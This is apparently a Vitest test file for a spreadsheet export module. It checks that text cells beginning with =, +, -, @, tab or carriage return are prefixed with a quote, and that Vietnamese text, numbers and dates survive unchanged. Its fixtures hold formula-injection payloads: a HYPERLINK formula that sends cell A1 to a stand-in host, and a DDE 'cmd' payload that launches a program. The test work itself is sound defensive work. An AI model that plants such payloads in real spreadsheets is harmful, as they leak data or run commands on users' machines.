import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { exportCellText, importCellText, writeSafeWorkbook } from './spreadsheet-cells.js';

describe('formula injection in exported spreadsheets', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['Kế hoạch kiểm tra', 'Kế hoạch kiểm tra'],
    ['12/KH-SNN', '12/KH-SNN'],
    ['', ''],
    ["'đã có dấu nháy", "'đã có dấu nháy"],
  ])('%j is exported as %j and imported back unchanged', (stored, exported) => {
    expect(exportCellText(stored)).toBe(exported);
    expect(importCellText(exportCellText(stored))).toBe(stored);
  });

  it('neutralises every text cell of every sheet, plain or rich, and leaves numbers and dates alone', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Một');
    sheet.addRow(['=1+1', -5, new Date(Date.UTC(2024, 0, 2)), 'Bình thường']);
    workbook.addWorksheet('Hai').addRow([{ richText: [{ text: '' }, { text: '+cmd|x' }] }]);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await writeSafeWorkbook(workbook)) as unknown as ArrayBuffer);
    const one = read.getWorksheet('Một');
    expect(one?.getCell('A1').value).toBe("'=1+1");
    expect(one?.getCell('B1').value).toBe(-5);
    expect(one?.getCell('C1').value).toEqual(new Date(Date.UTC(2024, 0, 2)));
    expect(one?.getCell('D1').value).toBe('Bình thường');
    const rich = read.getWorksheet('Hai')?.getCell('A1').value as { richText: { text: string }[] };
    expect(rich.richText.map((r) => r.text).join('')).toBe("'+cmd|x");
  });
});
